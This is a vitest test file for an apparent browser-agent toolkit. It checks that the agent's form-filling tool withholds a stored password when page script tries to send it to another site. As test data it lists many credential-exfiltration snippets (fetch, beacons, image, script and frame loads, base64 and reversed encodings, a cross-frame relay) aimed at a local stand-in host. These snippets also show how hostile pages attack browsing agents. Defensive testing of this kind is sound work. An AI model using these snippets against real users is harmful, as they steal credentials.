import { Secrets, type PageToolsOptions } from "dragline/agent";
import { createSite, type Site } from "dragline/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { browserTitle, chromiumPath } from "../../chromium.ts";
import { titled, ToolStage } from "./tool-stage.ts";

const path = await chromiumPath();
const word = "p!a's(s)w~o&r=d";

describe.skipIf(path === undefined)(
  `${browserTitle("a page's tools", path)} hold back secrets that a page sends to other sites`,
  () => {
    const owned = new AsyncDisposableStack();
    let stage: ToolStage;
    let elsewhere: Site;
    let got: string[] = [];
    const cors = {
      "access-control-allow-origin": "*",
      "access-control-allow-headers": "*",
      "content-type": "text/html",
    };
    beforeAll(async () => {
      elsewhere = owned.use(
        await createSite({
          "*": (request, response) => {
            let body = "";
            request.on("data", (part: Buffer) => (body += part.toString()));
            request.on("end", () => {
              got.push(
                `${request.method} ${request.url} ${request.headers["x-word"] ?? ""} ${body}`,
              );
              const field = `<input aria-label=Word oninput="fetch('/kept?' + encodeURIComponent(this.value)).then(() => parent.postMessage(1, '*'))">`;
              response.writeHead(200, cors).end(request.url === "/field" ? field : "<p>Frame</p>");
            });
          },
        }),
      );
      const to = `http://localhost:${elsewhere.port}`;
      stage = owned.use(
        await ToolStage.open(path ?? "", () => ({
          "/own": "own",
          "*": (request, response) => {
            const code = new URL(request.url ?? "/", "http://x").searchParams.get("code") ?? "";
            const page = titled(
              "Log in",
              `<input id=f type=password aria-label=Word><p id=p></p><script>
              const to = "${to}", word = () => f.value; f.oninput = async () => {
              try { ${code} } catch (error) { p.textContent += "refused " } p.textContent += "sent" }</script>`,
            );
            response.writeHead(200, { "content-type": "text/html" }).end(page);
          },
        })),
      );
    });
    afterAll(() => owned.disposeAsync());

    /** Fills a field whose page then runs some code; tells what was said, and what the other site got. */
    async function sent(code: string, options: PageToolsOptions = {}, secret = word) {
      got = [];
      const secrets = new Secrets({ word: secret });
      const on = await stage.work(`/?code=${encodeURIComponent(code)}`, { secrets, ...options });
      await using _ = on;
      const { said } = await on.call("fill", {
        ref: await on.ref(/"Word"/),
        text: "{{secret.word}}",
      });
      await on.page.waitForFunction("p.textContent.endsWith('sent')");
      const own = stage.site.requests.filter(({ path: one }) => one.startsWith("/own"));
      return { said, got, own };
    }

    it.each([
      ["in an address", `await fetch(to + "/?q=" + encodeURIComponent(word()))`],
      [
        "in a body of JSON",
        `await fetch(to, { method: "POST", body: JSON.stringify({ word: word() }) })`,
      ],
      [
        "in a form's body",
        `await fetch(to, { method: "POST", body: new URLSearchParams({ word: word() }) })`,
      ],
      ["in base64", `await fetch(to, { method: "POST", body: btoa("user:" + word()) })`],
      ["backwards", `await fetch(to + "/" + encodeURIComponent([...word()].reverse().join("")))`],
      ["in a head", `await fetch(to, { headers: { "x-word": encodeURIComponent(word()) } })`],
      [
        "by XMLHttpRequest",
        `await new Promise((go, no) => { const x = new XMLHttpRequest(); x.onload = go; x.onerror = no; x.open("POST", to); x.send(word()) })`,
      ],
      [
        "as a picture",
        `await new Promise((go) => { const i = new Image(); i.onload = i.onerror = go; i.src = to + "/i.png?" + encodeURIComponent(word()) })`,
      ],
      [
        "as a script",
        `await new Promise((go) => { const s = document.createElement("script"); s.onload = s.onerror = go; s.src = to + "/s.js?" + btoa(word()); document.head.append(s) })`,
      ],
      [
        "as a frame",
        `await new Promise((go) => { const i = document.createElement("iframe"); i.onload = i.onerror = go; i.src = to + "/frame?" + encodeURIComponent(word()); document.body.append(i) })`,
      ],
      ["by a beacon", `navigator.sendBeacon(to, word()); await fetch(to + "/after")`],
      [
        "in parts of a form",
        `const d = new FormData(); d.append("word", word()); await fetch(to, { method: "POST", body: d })`,
      ],
    ])("%s", async (_, code) => {
      const { said, got } = await sent(code);
      expect(got.filter((one) => !/^OPTIONS|\/after/.test(one))).toEqual([]);
      expect(said).toMatch(/secret 'word'.* to localhost was held back/);
    });

    it("also to a frame of another site, which sends it on", async () => {
      const code =
        `const i = document.createElement("iframe"); i.srcdoc = "<script>onmessage = (e) => fetch(e.data).finally(() => parent.postMessage(1, '*'))</script>";
        await new Promise((go) => { i.onload = go; document.body.append(i) });
        await new Promise((go) => { onmessage = go; i.contentWindow.postMessage(to + "/?" + encodeURIComponent(word()), "*") })`.replace(
          "</script>",
          "<\\/script>",
        );
      const { said, got } = await sent(code);
      expect(got).toEqual([]);
      expect(said).toContain("was held back");
    });

    it.each<[string, string, PageToolsOptions, string?]>([
      ["that has no secret", `await fetch(to + "/?q=1")`, {}],
      [
        "to a site of the task",
        `await fetch(to + "/?q=" + encodeURIComponent(word()))`,
        { reach: { sites: ["localhost"] } },
      ],
      [
        "of a task that may go anywhere",
        `await fetch(to + "/?q=" + encodeURIComponent(word()))`,
        { reach: "any" },
      ],
      [
        "with a word that is a usual one",
        `await fetch(to + "/password.js?" + word())`,
        {},
        "password",
      ],
      ["with a number that is a short one", `await fetch(to + "/?" + word())`, {}, "4711"],
    ])("but no request %s", async (...[, code, options, secret]) => {
      const { said, got } = await sent(code, options, secret);
      expect(got).toHaveLength(1);
      expect(said).not.toContain("held back");
    });

    it("and none to the site of another frame that the secret is for", async () => {
      got = [];
      const origin = `http://localhost:${elsewhere.port}`;
      const secrets = new Secrets({ word }, { word: origin });
      const html = `document.body.innerHTML = "<iframe src='${origin}/field'></iframe>"; onmessage = () => { document.title = "kept" }`;
      await using on = await stage.work("/", { secrets });
      await on.page.evaluate(html);
      await on.page.waitForNetworkIdle();
      const { said } = await on.call("fill", {
        ref: await on.ref(/"Word"/),
        text: "{{secret.word}}",
      });
      await on.page.waitForFunction("document.title === 'kept'");
      expect(got.at(-1)).toContain("/kept?p!a");
      expect(said).not.toContain("held back");
    });

    it("and none to the page's own site", async () => {
      const { said, own } = await sent(`await fetch("/own?q=" + encodeURIComponent(word()))`);
      expect(own.at(-1)?.path).toContain("p!a");
      expect(said).not.toContain("held back");
    });
  },
);
